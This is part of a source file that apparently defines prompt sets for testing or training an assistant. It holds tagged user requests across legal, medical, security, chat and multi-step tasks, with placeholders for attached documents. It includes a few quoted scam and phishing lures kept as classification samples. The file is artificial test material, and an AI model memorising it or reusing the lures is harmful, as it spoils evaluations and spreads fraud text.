reasoning f m p | Pay off my 2,400 credit card or keep the cash as my emergency fund? I've got nothing else saved.
reasoning f m p | should we fix our mortgage for 2 years or 5, everyone says rates might come down
reasoning f m p | Why is my tax refund so much smaller this year when I earned roughly the same?
reasoning f m p | Freelance designer, no employer sick pay. Is income protection insurance worth it, or should I just save?
reasoning f m p | Three quotes for my shop's insurance: A 640 with 1,000 excess, B 710 with 250 excess, C 590 but no stock cover. Which gives best value for a small gift shop?
reasoning f m p | Our café is busy every day but we never seem to have money at the end of the month. Where would you look first?
math f l p calc | Price with 20% VAT is 150. What's it before VAT?
math f l p calc | Monthly payment on a 12,000 loan at 6.9% APR over 4 years?
math f l p calc | I'm on 18.50 an hour, did 37.5 hours plus 6 hours overtime at time and a half. What's my gross pay this week?
math f l p calc | 5,000 in a savings account at 4.1% compounded yearly for 7 years - how much at the end?
math f l p calc | bought the stock at 24, sold at 39. markup and margin?
math f l p calc | my rent went from 1,150 to 1,265. what % is that
math f l p calc | Candles cost me 3.20 each to make, I sell them at 9, stall fee is 65 a market day. How many do I need to sell to break even?
code f l p | Google Sheets formula for the monthly repayment: rate in B2 (annual %), years in B3, loan in B4.
code f l p | Python that prints a year-by-year compound interest table for a deposit, rate and number of years.
code f l i | SQL for total unpaid invoice value per customer where the invoice is more than 30 days past due. Table invoices(customer_id, due_date, amount, paid).
code f l p | my VAT formula is wrong, =A2*1.2/100 gives tiny numbers, fix it
code f l p | Write a script that reads my bank's CSV export and tags each transaction by merchant into groceries, bills, eating out, other.
code f l p | pandas: monthly spend per category from a dataframe with date, category, amount columns
classify f l p | I'm a freelance photographer. Deductible or not: new lens, Netflix, train to a shoot, my haircut, accountant's fee, home broadband.
classify f l p | Risk level low / medium / high: government bonds, crypto, global index fund, one tech stock, premium bonds.
classify f l r | Put each line of my statement into a budget category.{STATEMENT}
classify f l p | For my café: fixed or variable cost? rent, coffee beans, card machine fees, insurance, part-time wages, milk.
classify f l p | which of these receipts are business and which personal - printer ink, birthday cake, client lunch, phone bill, gym
classify f l p | Label each customer email: billing / refund / failed payment. 'you charged me twice', 'the card payment keeps getting declined', 'I want my money back for the broken kettle'
sentiment f l p | How do shareholders seem to feel going by these AGM questions? 'Why is the dividend cut again?' 'Thank you for finally addressing costs.' 'When will the share price recover?'
sentiment f l p | Angry or just disappointed? 'I've been a customer for 11 years and your price went up 30% with no warning. I expected better.'
sentiment f l p | CEO on the earnings call: 'We are very comfortable with where the balance sheet is.' Confident or defensive?
sentiment f l p | Is my landlord open to negotiating the rent rise, from his text? 'It's 95 more a month, that's the market. Happy to talk if you're thinking of staying another two years.'
sentiment f l p | Read this forum post about the bank's new app charges and tell me the mood: 'Another fee for something that used to be free. Moving my salary elsewhere.'
sentiment f l p | Is my accountant fed up with me? 'As mentioned in my previous three emails, we still need your receipts for March.'
extract f l r | Pull the amount, due date and payee account out of this.{INVOICE}
extract f l p | List every fee in this credit card small print: 'Annual fee 0. Cash withdrawals 3% (min 3). Foreign transactions 2.99%. Late payment 12. Over-limit 12. Returned payment 12.'
extract f l r | gross, total tax, 401k and net from this payslip please{PAYSLIP}
extract f l r | Pull out every payment over 100.{STATEMENT}
extract f l p | From the analyst note, tickers and target prices as a table: 'We raise AAPL to 240 from 215, keep MSFT at 470, and cut INTC to 28 after the guidance.'
extract f l p | what's the premium and the new excess?{RENEWAL}
translate f l p | German bank letter, what does it say in English: 'Ihr Konto weist einen Sollsaldo auf. Bitte gleichen Sie den Betrag bis zum 15. aus.'
translate f l p | Spanish for my cleaner: 'I'll pay you by bank transfer on Friday, the same amount as last month.'
translate f l p | French: 'The deposit for the holiday rental is non-refundable.'
translate f l p | Simplified Chinese: 'Interest is calculated daily and paid monthly.'
translate f l p | Italian to English please: 'Fattura da saldare entro 30 giorni dalla data di emissione.'
translate f l p | Hindi for my parents: 'Your pension will be paid on the last working day of each month.'
qa f l p | what's an ISA and is it better than a normal savings account
qa f l p | How does my credit score actually get worked out?
qa f l p | gross vs net pay?
qa f l p | What does APR mean and why is it different from the interest rate?
qa f l p | How does dividend tax work if I'm the only director of my own limited company?
qa f l p | What's the excess on car insurance?
qa f l p | what's an ETF
"""

LEGAL = r"""
summarize l l c | What does my tenancy agreement actually say? Key points in plain English.{TENANCY}
summarize l l p | Summarise these NDA clauses for a founder who has never read one.{NDA}
summarize l l c | My friend was given this settlement agreement. Give her the gist in five lines.{SETTLE}
summarize l l p | in a sentence, what's this council letter about? 'Your appeal against Penalty Charge Notice has been considered. Having reviewed the photographs, we are not satisfied that the signage was obscured. You may now pay at the reduced rate within 14 days or appeal to the independent adjudicator.'
summarize l l p | Short summary of this judgment paragraph: 'The employer argued that the claimant's role had disappeared. The tribunal found that the work continued, reallocated to a newly hired junior on lower pay, and that redundancy was therefore not the genuine reason for dismissal.'
summarize l l p | summarise the main obligations in this contract for our ops team{CONTRACT}
draft l l p | Letter to my landlord asking for my deposit back within 10 days; I moved out 5 weeks ago and left the flat clean.
draft l l p | Help me write a grievance to HR. They moved me to night shifts with two days' notice and no consultation.
draft l l p | Reply to a customer who sent a subject access request, confirming we received it and will respond within a month.
draft l l p | Cease and desist letter to a company using our logo on their website without permission.
draft l l p | appeal letter for a parking fine - the bay markings were completely worn away, I have photos
draft l l p | A clause for my freelance web design contract saying I own the code until the final invoice is paid.
draft l l p | write to my neighbour politely about the fence he put up about a foot onto our side
creative l l p | Short courtroom scene for our compliance training video showing why you never backdate a document.
creative l l p | catchy title for this year's GDPR refresher e-learning
creative l l p | rhyming poster for the tenants' union: read before you sign
creative l l p | Mnemonic so paralegal trainees remember offer, acceptance, consideration and intention.
creative l l p | A short monologue of a tenant reading an eviction notice, for our housing rights campaign video.
creative l l p | Limerick about the contract that has been 'nearly signed' for nine months, for the legal team's Christmas card.
reasoning l m p | My employer wants me to sign a 12-month non-compete before they'll give me a raise. Is that likely to be enforceable and what should I weigh up?
reasoning l m p | Landlord is keeping 400 of my deposit for a carpet that was already worn when I moved in. Do I have a case, and what's my best move?
reasoning l m p | Bought a used car from a dealer, gearbox went after three weeks. Can I insist on a refund or do they get to repair it first?
reasoning l m p | We use a GPL library in our desktop app. Can we keep shipping the app closed-source? Think it through.
reasoning l h c | Ex-employee's unfair dismissal claim: they'd settle at 8k, our lawyer thinks we'd probably win at tribunal but it'd cost 15k in fees and take a year. Settle or fight? Set out the considerations.
reasoning l m p | the neighbour's tree roots are cracking my driveway. who's responsible and what are my options
reasoning l m p | My boss says I can't take my holiday in December because 'it's busy'. Can they actually refuse?
math l l p calc | Redundancy: 8 full years' service, age 45, weekly pay 640. One week per year under 41, 1.5 weeks per year from 41. How much is that?
math l l p calc | Late payment interest at 8% above a 5.25% base on an invoice of 4,200 that's 63 days late - how much can I claim?
math l l p calc | If I hand in one month's notice on 3 March, what's my last day?
math l l p calc | Deposit was 1,500. They deducted 180 for cleaning, 95 for a broken blind and 60 for a key. What should I get back?
math l l p calc | Contract breached 14 February 2019 - with a six-year limitation period, what's the last day to issue a claim?
math l l p calc | Holiday: full-timers get 28 days. I work 3 days a week. What's my pro-rata entitlement?
math l l p calc | GDPR fine ceiling is the higher of 20m or 4% of worldwide turnover. Our turnover is 620m. What's the ceiling?
code l l p | Regex that finds dates written like '1st July 2024' or '01/07/2024' in contract text.
code l l i | Python that reads contracts.csv (name, end_date, notice_days) and flags contracts whose notice deadline is within 90 days.
code l l i | SQL to collect everything we hold on one customer for a subject access request: customers, orders, support_tickets, marketing_consent, all keyed by customer_id.
code l l p | Script to redact witness names from court transcripts given a list of names, replacing each with [REDACTED].
code l l p | cookie banner JS that doesn't load Google Analytics until the visitor clicks accept
code l l i | A nightly job that deletes customer records older than seven years, as our retention policy requires. Postgres.
classify l l p | Which of these lease clauses are standard and which would you push back on? rent review every year upward only; landlord can enter without notice; tenant repairs the roof; 3-month break clause.
classify l l p | Sort these complaints into consumer / employment / housing: 'my boss hasn't paid me for overtime', 'landlord won't fix the mould', 'the shop refused to refund faulty headphones', 'I was sacked by text'.
classify l l p | Is each of these personal data? a customer's postcode, a company's phone number, an IP address, an anonymised survey answer, a staff photo.
classify l l p | Contract type for each: mutual NDA, statement of work, data processing agreement, master services agreement - assign each of the 4 docs in the folder names: 'ACME_confidentiality_mutual.pdf', 'SOW_phase2.docx', 'Art28_processing_terms.pdf', 'Framework_MSA_2024.pdf'
classify l l p | Tenant messages to our housing charity - label each repairs, deposit, eviction or other: 'they changed the locks', 'boiler broken 3 weeks', 'they kept my whole deposit', 'can I have a cat?'
classify l l p | Risk-rate each clause high, medium or low for us as the customer.{CONTRACT}
sentiment l l p | How hostile is this from the other side's solicitor? 'Our client has been more than patient. Absent payment by Friday we are instructed to issue proceedings without further notice.'
sentiment l l p | Does my landlord sound like he'd compromise?{LEASECHAT}
sentiment l l p | The claimant's witness statement says: 'I was humiliated in front of my whole team and nobody from HR ever called me back.' How upset does she come across?
sentiment l l p | The judge said: 'The court has some sympathy for the claimant; sympathy, however, is not a cause of action.' Is that good or bad for the claimant?
sentiment l l p | Tone of the union's reply to our proposed contract changes: 'We note the proposals and will consult our members, who are understandably concerned.'
sentiment l l p | This customer is threatening to sue - how serious does he sound? 'I've had enough, my solicitor will be in touch. You people think you can ignore the law.'
extract l l p | Pull the parties, start date, term, notice period and governing law.{CONTRACT}
extract l l p | List every deadline in this order: 'The Defendant shall file a Defence by 4pm on 12 July. Disclosure by list by 30 August. Witness statements exchanged by 11 October. Trial window from 3 February, 3 days.'
extract l l c | notice period, break clause and deposit amount from my lease{TENANCY}
extract l l c | What are the payment, last day and reference terms in this?{SETTLE}
extract l l p | Just the recipient's obligations, as a bullet list.{NDA}
extract l l p | List the obligations on me in this letter from my employer.{HRMAIL}
translate l l p | Spanish to English: 'El arrendatario deberá abonar la renta dentro de los cinco primeros días de cada mes.'
translate l l p | French please: 'This agreement is governed by the laws of England and Wales.'
translate l l p | Polish for one of our tenants: 'Your landlord must give you at least two months' written notice.'
translate l l p | what's 'without prejudice' in German, for a letter header
translate l l p | Portuguese to English, it's from the court: 'Fica V. Exa. notificado para, no prazo de 10 dias, apresentar contestação.'
translate l l p | Arabic: 'You have the right to speak to a lawyer before answering any questions.'
qa l l p | can my boss read my work emails?
qa l l p | How long does a landlord have to give back a deposit?
qa l l p | What's the difference between a will and a trust?
qa l l p | do I need permission to film in a public park for a YouTube video
qa l l p | What is 'consideration' in contract law?
qa l l p | Can I be sacked for being off sick a lot?
qa l l p | What does 'joint and several liability' mean on a tenancy?
"""

MEDICAL = r"""
summarize m l c | Summarise my dad's discharge letter so I can explain it to my brothers.{DISCHARGE}
summarize m l c | two-line summary of this for my mum's carer{GPLETTER}
summarize m l p | Summarise this leaflet for someone who hates reading: 'Statins lower the amount of cholesterol made by your liver. Most people have no side effects. Some get muscle aches; tell your doctor if you have unexplained muscle pain, especially with fever. Avoid large amounts of grapefruit juice. Keep taking them even if you feel well.'
summarize m l p | Summarise: 'In a 12-week trial of 140 adults, time-restricted eating (8-hour window) produced weight loss similar to daily calorie counting, with no difference in blood pressure or cholesterol. Dropout was higher in the calorie group.'
summarize m l c | What happened to my gran, in plain words, from this report?{CAREHOME}
summarize m l p | summarise for the handover: 'Bed 4, 56M, day 2 after appendicectomy, eating and drinking, pain 2/10 on paracetamol, wound clean, awaiting bowels, likely home tomorrow.'
draft m l c | Write to my mum's GP surgery asking for her repeat prescription of donepezil and amlodipine, and whether someone can review the new bladder tablet.{MEDLIST}
draft m l p | email to my son's school explaining his nut allergy, where his EpiPen is kept and what to do if he reacts
draft m l p | Letter inviting our over-65 patients for their flu jab, clinics on Saturdays in October.
draft m l p | Complaint to the hospital: my father waited 7 weeks for a scan marked urgent and nobody returned our calls.
draft m m p | After-care sheet for patients going home after knee arthroscopy: wound, pain relief, exercises, when to call us.
draft m l p | SOAP note from these: 3 days sore throat, no cough, fever 38.4, tonsils swollen with exudate, tender neck glands, plan penicillin V 10 days.
draft m l p | Message for our care home families: visiting is paused in the east wing this week because of a norovirus outbreak.
creative m l p | Hand-washing slogan for the children's ward.
creative m l p | Story for a 5-year-old about why he needs his inhaler, with a brave dragon.
creative m l p | catchy rhyme to help people remember the CPR rhythm
creative m l p | Poster line for our blood donation day in the canteen.
creative m l p | a song to get kids brushing their teeth for the full 2 minutes
creative m l p | Mnemonic for the signs of a stroke that isn't FAST, for our first-aid course.
reasoning m m c | Mum's 82 and has been much more confused for the last three days. She started a new tablet last week. Could that be it, and what should we do?{MEDLIST}
reasoning m m p | My 4-year-old has a fever of 38.9 and is grumpy but drinking. Paracetamol or ibuprofen, and when should I worry?
reasoning m m p | My dad (76) has been offered a knee replacement now or can wait a year. He still walks the dog but barely sleeps for pain. What should he be weighing up?
reasoning m m p | why would my blood pressure be high at the doctor's but normal at home
reasoning m m p | I get dizzy when I stand up quickly since I started amlodipine. Related? Should I stop it?
reasoning m m p | For heart failure residents in our care home, is daily weighing worth the effort compared with weekly? Argue it.
reasoning m m c | From these bloods, what's the most likely explanation and what would a doctor check next?{BLOODS}
math m l p calc | Paracetamol 15 mg/kg for a child of 18 kg - how many mg per dose, and how many ml of 120 mg/5 ml suspension?
math m l p calc | BMI for 82 kg and 1.75 m?
math m l p calc | 1,000 ml of saline over 8 hours - rate in ml per hour?
math m l p calc | How many units of alcohol in 4 pints of 5% lager?
math m l p calc | Last period started 3 February. Roughly when is the baby due?
math m l p calc | 2 tablets three times a day for 10 days - how many tablets do I need?
code m l p | Python function that calculates BMI and returns the category (under, healthy, over, obese).
code m l i | SQL: patients with diabetes whose last HbA1c test was more than 12 months ago, from patients(id, dx) and tests(patient_id, test, taken_on).
code m l p | Parse a FHIR Patient resource in JSON and return the date of birth and NHS number.
code m l p | Regex to spot NHS numbers (10 digits, maybe spaced 3-3-4) in free-text clinic notes.
code m l p | R script to compare systolic BP before and after the intervention, paired t-test, with a plot.
code m l p | Write the dose check for our ward app: reject any paracetamol order over 4 g in 24 hours for adults, or over 60 mg/kg/day for children.
classify m l p | A&E, GP or pharmacy for each: 'sprained ankle, can walk', 'chest pain spreading to my arm', 'hay fever', 'earache for 3 days', 'cut that won't stop bleeding'
classify m l p | Side effects of my new antidepressant: common or call-the-doctor? nausea, trouble sleeping, thoughts of self-harm, dry mouth, rash with fever
classify m l p | Tag each piece of patient feedback with the department: 'physio got me walking', 'waited 4h in A&E', 'pharmacy gave wrong dose', 'radiographer was lovely'
classify m l p | Mum's on dialysis. High or low potassium: banana, apple, potato, rice, orange juice, tomatoes?
classify m l p | urgent or routine referral: 'new breast lump, 48F', 'chronic knee pain, stable', 'weight loss and difficulty swallowing', 'mild acne'
classify m l c | Which of these tablets are for her memory, her heart, her mood or her bladder?{MEDLIST}
sentiment m l p | How do patients feel about the night nurses going by this? 'They were run off their feet but never once made me feel like a bother.'
sentiment m l p | My son texted me this the night before his operation: 'I'm fine honestly, just can't sleep lol.' How worried is he really?
sentiment m l p | Overall mood of the care home family survey: 'staff are angels', 'laundry keeps going missing', 'mum seems happier since the new activities coordinator', 'nobody answers the phone at weekends'
sentiment m l p | Is the consultant being dismissive? 'Your symptoms are not consistent with any serious pathology and further tests are not indicated.'
sentiment m l p | Forum post from someone on antidepressants - hopeful or low? 'Week six. Not fixed, but I went for a walk today and it didn't feel like a mountain.'
sentiment m l p | How satisfied are people with the ward overall, 1 to 5?{WARDFB}
extract m l c | List the medications: stopped, new and continuing, with doses.{DISCHARGE}
extract m l p | Pull out the appointments and dates: 'Your MRI is on 14 May at 08:40, Radiology level 2. Please arrive 20 minutes early. Your follow-up with the orthopaedic team is on 3 June.'
extract m l p | From the intake form, list the allergies and reactions: 'Penicillin - rash. Latex - itching. Codeine - vomiting. No food allergies.'
extract m l p | Vital signs from this note into a table: 'BP 142/88, HR 96, RR 20, sats 95% on air, temp 37.9'
extract m l c | Which results are out of range?{BLOODS}
extract m l p | Symptoms and when each started, from this message: 'The cough began last Sunday, the fever on Tuesday night, and since yesterday I'm short of breath on the stairs.'
translate m l p | Polish, for a relative: 'Visiting hours are 2pm to 8pm, two visitors per bed.'
translate m l p | Spanish: 'Take this medicine with food, twice a day.'
translate m l p | Urdu please: 'Your appointment has been moved to next Thursday at 10am.'
translate m l p | What does this say on my grandma's medicine box? '饭后服用，每日三次，每次两片'
translate m l p | French: 'Do you have any allergies to medicines?'
translate m l p | Ukrainian: 'Call 999 if the chest pain comes back.'
qa m l p | what does a high white cell count mean
qa m l p | How long is someone with flu contagious?
qa m l p | What is sepsis?
qa m l p | Is it safe to take ibuprofen if you're on blood thinners?
qa m l p | how does insulin actually work
qa m l p | What's the difference between dementia and Alzheimer's?
qa m l p | can you get shingles twice
"""

SECURITY = r"""
summarize s l c | Summarise this for my manager, non-technical.{AUTHLOG}
summarize s l i | Summarise the pentest findings for the board in four bullets.{PENTEST}
summarize s l c | My gran forwarded me these texts. Quick summary of what's going on?{SCAMTEXT}
summarize s l p | summarize the vendor's breach notice: 'On 3 May we detected unauthorised access to a support system. Names, email addresses and the last four digits of cards for some customers may have been viewed. Passwords and full card numbers were not affected. We have reset access tokens and engaged a forensic firm.'
summarize s l i | Shorten our acceptable use policy for the new-starter pack.{AUP}
summarize s l c | What happened here, in one paragraph?{ALERT}
draft s l p | Warn staff about fake invoice emails pretending to be from our suppliers - short, clear, what to do.
draft s m p | Email to customers after our newsletter tool was breached: what happened, what data, what they should do.
draft s l p | I was scammed into paying for a fake parcel fee and gave my card details. Write to my bank asking them to block the card and dispute the payment.
draft s l p | A paragraph for the policy: passwords at least 14 characters, no forced expiry, MFA required for email and VPN.
draft s l p | Write up an incident report: I clicked a link in a fake DocuSign email and typed my password before I noticed.
draft s l p | polite reply to the 'CEO' asking me to buy gift cards urgently - I want to say no and loop in IT
creative s l p | Slogan for phishing awareness month.
creative s l p | A 200-word story for the staff newsletter about a receptionist who gets a very convincing call from 'IT support'.
creative s l p | poem reminding people to lock their screens when they get up
creative s l p | Name ideas for our internal bug bounty programme.
creative s l p | 5 fun quiz questions for cyber awareness week
creative s l p | Invent a mascot for our security training - something friendly that guards passwords.
reasoning s m p | I clicked a link in a text about a missed delivery and entered my card details. What do I do now, in what order?
reasoning s m p | Should we let staff read work email on their personal phones? 60 people, no MDM today.
reasoning s m p | My account is sending spam to my contacts but the password hasn't changed. How is that possible?
reasoning s m p | SMS codes or an authenticator app for our customers' 2FA? Argue it.
reasoning s m c | Is this email real? My colleague wants to click it.{PHISH}
reasoning s m i | Which of these should we fix first and why?{PENTEST}
reasoning s m c | Was this a successful break-in or just noise? Walk me through it.{AUTHLOG}
math s l p calc | Entropy of a 12-character password drawn from 94 printable characters?
math s l p calc | At 10 billion guesses a second, how long to try every 8-letter lowercase password?
math s l p calc | Failed logins went from 1,200 a day to 4,800. Percentage increase?
math s l p calc | 37 of 820 staff clicked the phishing test. Click rate?
math s l p calc | 12,000 customer records exposed, estimated cost 165 per record. Total?
math s l p calc | If an attacker gets 5 guesses before lockout and the PIN is 4 digits, what are the odds of getting in?
code s l i | Fix the security problem in this login route.{SQLI}
code s l p | Python script that reads /var/log/auth.log and counts failed SSH logins per source IP, top 10.
code s l p | Review this for security issues: `def check(pw, stored): return hashlib.md5(pw.encode()).hexdigest() == stored`
code s l p | Regex to catch AWS access key IDs accidentally committed to a repo.
code s l p | bash to find world-writable files under /etc and /var/www
code s l p | Sigma rule for PowerShell launched by Outlook with an encoded command.
classify s l c | phishing, spam or legit? {PHISH}
classify s l i | Assign a severity to each finding using our 4-level scale.{PENTEST}
classify s l p | Label each text scam or real: 'Your parcel is held, pay 1.99 at royalmail-redelivery.info', 'Your GP surgery: flu clinic Sat 9-12', 'HMRC: you are due a tax refund, click here', 'Your Uber code is 4412'
classify s l p | Strong or weak: 'Liverpool1892!', 'correct battery horse staple', 'Qw3rty!', 'm4ry-h4d-4-l1ttl3-l4mb', 'P@ssw0rd2024'
classify s l c | Which events are brute force, which normal, which a scan?{AUTHLOG}
classify s l c | flag the risky accounts in this export: ok / review / remove{ACCESS}
sentiment s l p | How panicked is this user? 'SOMEONE IS IN MY ACCOUNT RIGHT NOW my password changed and I cant get back in!!!'
sentiment s l p | How do staff feel about the new MFA? 'bit annoying at first but fine now', 'it asks me 6 times a day', 'love that I can use my watch', 'why do I need it for the canteen app??'
sentiment s l p | Is this ransom note trying to scare or to negotiate? 'Your files are encrypted. We are professionals. Contact us within 72 hours and we will find a solution together.'
sentiment s l p | Comments after the phishing simulation - are people annoyed? 'felt tricked', 'good lesson tbh', 'IT trying to catch us out again'
sentiment s l p | Vendor's reply to our vulnerability report - defensive or cooperative? 'We are not able to reproduce the issue and believe it requires unrealistic conditions.'
sentiment s l p | How upset is this customer? 'Someone took over my account and ordered 3 phones to a different address. Your chat bot kept asking me to reset my password.'
extract s l c | Pull out the IOCs: host, user, IP, domain, parent process.{ALERT}
extract s l c | List the IPs and usernames in this log, with whether each login failed or succeeded.{AUTHLOG}
extract s l p | CVE ids and fixed versions: 'CVE-2024-3094 (xz) affects 5.6.0 and 5.6.1; CVE-2023-4863 (libwebp) fixed in 1.3.2; CVE-2021-44228 fixed in log4j 2.17.1'
extract s l c | Get the sender, the link and the deadline from this phishing mail.{PHISH}
extract s l c | What number and what bank details did the scammer use?{SCAMTEXT}
extract s l c | List the admin accounts with no MFA.{ACCESS}
translate s l p | Spanish version of our phishing warning: 'We will never ask for your password by email or phone.'
translate s l p | German: 'Never share your one-time code with anyone, not even with us.'
translate s l p | my mum got this text in Chinese, what does it say? '您的账户存在异常，请立即点击链接验证身份，否则将被冻结。'
translate s l p | Japanese: 'Please change your password and turn on two-step verification.'
translate s l p | Portuguese: 'Your account has been locked for your protection.'
translate s l p | French to English: 'Mettez à jour immédiatement vos pare-feu : une faille critique est activement exploitée.'
qa s l p | what is two-factor authentication and do I really need it
qa s l p | How do scammers make a call look like it's from my bank's number?
qa s l p | What is ransomware?
qa s l p | is it safe to do online banking on café wifi
qa s l p | what's a zero-day
qa s l p | How does a password manager keep my passwords safe if it's online?
qa s l p | What's the difference between a virus and a worm?
"""

CHAT = r"""
chat g l p | hi
chat g l p | thanks, that's exactly what I needed
chat g l p | Good morning!
chat g l p | what can you help me with?
chat g l p | are you a real person
chat g l p | lol
chat g l p | sorry, wrong chat
chat g l p | ok bye for now
chat g l p | how's your day going?
chat g l p | you're a lifesaver honestly
chat g l p | Do you remember what I asked you yesterday?
chat g l p | Can I call you something other than 'assistant'?
chat g l p | never mind, figured it out
chat g l p | hmm let me think about it
chat g l p | that answer was way too long tbh
chat g l p | Happy Friday!!
chat g l p | you still there?
chat g l p | I've had such a long week
chat g l p | Thank you so much for helping with my mum's forms earlier, it really took a weight off.
chat g l p | is it ok if I just vent for a sec
chat g l p | cheers mate
chat g l p | What languages do you speak?
chat g l p | do you store what I type here?
chat g l p | just testing, ignore this
"""

HARD = r"""
!qa g l p | where's my order #40817723? it said 3-5 days and it's now day 9
!extract f l p | Invoice numbers and amounts only: 'INV-2024-00412 3,400.00 paid 02/10; INV-2024-00418 12,075.50 overdue since 01/11; CN-2024-0031 -450.00 credit'
!summarize g l p | One line on the release: 4.2.0.17 adds dark mode, 4.2.0.18 fixes the crash on login, 4.2.1.0 is held back.
!classify f l p | The number {BAD16A} is printed on our loyalty card - is that a payment card number or not?
!reasoning s m p | A supplier sent new bank details {BADIBAN1} and our system says the IBAN is invalid. Typo, or should I worry?
!math f l p calc | Order 7731-2209 was 184.60 and order 7731-2214 was 97.15. What's the total with 5% off?
!extract s l p | Pull the ticket ids and their status: 'INC0087123 resolved; INC0087140 in progress; SEC-4471 awaiting vendor; CHG0012944 scheduled for 22/06 at 02:00'
!code g l p | regex for version strings like 4.2.0.17 or 10.11.3 in our changelog
!qa f l p | Why is {BADIBAN2} rejected by my banking app? I copied it from the invoice.
!classify g l p | tracking number or order id? 1Z83E92F0345678912, ORD-20240611-0093, 4471-2290-1187
!extract l l p | Case numbers and hearing dates please: 'Claim K00MA123 listed 14.11.2024; appeal CA-2023-001877 listed 03.02.2025.'
!qa m l p | Batch 24C117-04 of the vaccine says expiry 2025-03-31. Can we still use it on 28/03/2025?
!summarize m l p | Summarise: 'Bed 12 moved to ward 6B at 14:05; chart ref 2024/11/0788; obs every 4 hours; next review 08:00.'
!math m l p calc | Lot 8812-4471 had 1,200 syringes and 2.5% failed the check. How many passed?
!classify s l p | Is this a password hash or an API key? 5f4dcc3b5aa765d61d8327deb882cf99
!extract s l p | Which firmware versions are affected? 'Affected: 7.2.0 to 7.2.4 and 7.0.0 to 7.0.12. Fixed: 7.2.5, 7.0.13. Build 1577 and later are not affected.'
!reasoning g m p | JIRA-4412 and JIRA-4471 look like the same bug. Merge them or keep both? Why?
!qa f l p | There's a reference {BAD16B} next to a refund on my statement. Is that my card number?
!draft g l p | Note to facilities: server rack SN-4471-0029-1183 goes back to the vendor on 29/11, RMA 88231, collection between 09:00 and 12:00.
!classify s l p | Is case ref {BADNRIC1} a Singapore NRIC? The system says the check letter doesn't match.
!math g l p calc | Build 20240611.4 took 38m 12s and build 20240611.5 took 31m 50s. How much faster in %?
!qa g l p | is {BAD16C} a valid gift card? it's the serial number on the back
!extract f l p | The IBAN on this form is {BADIBAN3} and it doesn't validate. Pull the country code and bank code anyway.
!summarize l l p | Summarise: contract v3.1.4 replaces v3.1.2 from 01/01/2025; schedule 4.2.1.3 is deleted; fees unchanged at 18,000.
!code f l p | Python check that rejects 16-digit strings failing Luhn, so order refs like {BAD16D} stop setting off our card alert.
!translate f l p | Spanish please: 'Invoice INV-77120 for 2.340,00 EUR is due on 15/07/2024.'
!sentiment g l p | Ticket #58812 from a customer: 'Order 10045522 arrived two weeks late AND the box was crushed. Great.' How annoyed are they?
!classify f l p | Is {BADIBAN4} a real Spanish IBAN or a mistyped one?
!extract g l p | Versions and dates from the changelog: 'v2.14.0 (2024-03-02) - v2.14.1 (2024-03-09) - v2.15.0-rc.1 (2024-04-01)'
!qa l l p | Our contract says clause 12.3.1.4 survives termination - what does 'survives' mean?
!math f l p calc | Total of these amounts: 1,204,330.17 USD and 88,400.00 USD and 9,999.99 USD?
"""

MULTI = r"""
draft s m i => Draft a short policy on staff taking company laptops abroad ;; math f l p calc => work out what it costs us if 12 people roam for 10 days at 6 a day ;; summarize s l p => summarise the guidance below in two lines | Draft a short policy on staff taking company laptops abroad, work out what it costs us if 12 people roam for 10 days at 6 a day, and summarise the guidance below in two lines: 'Travellers to high-risk countries should take a loaner device with no stored credentials, use the VPN for all traffic, and report any device inspection at the border to security on return.'
summarize l l c => summarise my tenancy ;; reasoning l m c => tell me if the cleaning clause is fair | Can you summarise my tenancy and tell me if the cleaning clause is fair?{TENANCY}
extract m l c => list dad's new medicines and what was stopped ;; draft m l c => write a text to my brothers explaining it | Please list dad's new medicines and what was stopped, then write a text to my brothers explaining it.{DISCHARGE}
classify s l c => Mark each line normal or suspicious ;; draft s l c => draft the message to j.moreno asking if it was him | Mark each line normal or suspicious. And draft the message to j.moreno asking if it was him.{AUTHLOG}
extract f l r => pull out the total and the bank details ;; math f l r calc => what's the VAT if the rate were 5% instead | pull out the total and the bank details, and what's the VAT if the rate were 5% instead{INVOICE}
chat g l p => morning! ;; qa f l p => quick one, what does 'tax code 1257L' mean | morning! quick one, what does 'tax code 1257L' mean?
summarize g l i => Summarise the offsite notes ;; draft g l i => write the email asking for volunteers ;; math g l i calc => tell me the total budget for the day | Summarise the offsite notes, write the email asking for volunteers, and tell me the total budget for the day.{OFFSITE}
code s l i => fix this ;; qa s l p => explain what SQL injection is so the junior gets it | fix this and explain what SQL injection is so the junior gets it{SQLI}
sentiment l l p => how annoyed does the landlord sound ;; reasoning l m p => can he actually keep that money ;; draft l l p => draft my reply | My landlord sent this. how annoyed does the landlord sound, can he actually keep that money, and draft my reply.{LEASECHAT}
translate m l p => translate the aftercare line into Polish ;; translate m l p => into Romanian | Please translate the aftercare line into Polish and into Romanian: 'Keep the dressing dry for 48 hours and take paracetamol if needed.'
reasoning m m c => Is the new bladder tablet a problem with her memory tablet ;; draft m l c => draft what I should say to the pharmacist | Is the new bladder tablet a problem with her memory tablet? If so, draft what I should say to the pharmacist.{MEDLIST}
extract s l c => List the IOCs ;; classify s l c => rate the severity ;; draft s l c => write the two-line Teams update | List the IOCs, rate the severity, and write the two-line Teams update for the incident channel.{ALERT}
qa l l p => What's a break clause ;; reasoning l m p => should I use mine if I've found a cheaper flat | What's a break clause, and should I use mine if I've found a cheaper flat 6 months in? Rent now 1,150, new place 980, two months' notice.
math f l p calc => How much will I save a year ;; draft f l p => write the email cancelling my old broadband | Switching broadband from 42 a month to 27.50. How much will I save a year? And write the email cancelling my old broadband, account ref BB-40012.
creative g l p => come up with a name for the team's running club ;; draft g l p => write the first announcement | come up with a name for the team's running club and write the first announcement (Tuesdays 6pm, all paces)
summarize f l i => Give me the Q2 headlines ;; reasoning f m i => explain why cash isn't up as much as profit suggests | Give me the Q2 headlines and explain why cash isn't up as much as profit suggests.{Q2}
extract l l c => Pull out what they're asking me to do ;; qa l l p => can they actually make me switch to nights ;; draft l l p => help me write back | Pull out what they're asking me to do, can they actually make me switch to nights, and help me write back - I have childcare in the mornings.{HRMAIL}
sentiment g l p => is this review positive overall ;; draft g l p => write a short public reply from the company | is this review positive overall? also write a short public reply from the company{REVIEW_APP}
classify s l c => tell me if it's a scam ;; translate s l c => put a two-line warning into Gujarati for her ;; draft s l c => draft what she should send her bank | My gran only really reads Gujarati. Please tell me if it's a scam, put a two-line warning into Gujarati for her, and draft what she should send her bank.{SCAMTEXT}
reasoning s m c => Is this legit ;; draft s l p => write a warning to all staff | Is this legit? If not, write a warning to all staff.{PHISH}
code g l p => Fix this ;; qa g l p => explain why forEach doesn't wait for await | Fix this and explain why forEach doesn't wait for await.{JSBUG}
